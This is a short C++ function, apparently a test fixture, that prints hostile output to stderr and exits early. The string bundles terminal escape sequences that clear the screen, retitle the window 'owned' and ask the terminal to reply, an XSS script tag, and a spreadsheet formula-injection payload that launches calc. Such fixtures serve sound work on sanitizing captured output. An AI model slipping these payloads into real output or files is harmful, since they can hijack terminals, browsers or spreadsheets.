// call: ended-early
// Clears the screen, renames the window, asks the terminal to answer.
#include <cstdio>
#include <unistd.h>
static void attack() {
    std::fputs("\033[2J\033]0;owned\007\033[6n<script>alert(1)</script>\n=cmd|'/c calc'!A1\n",
               stderr);
    std::fflush(stderr);
    _exit(7);
}
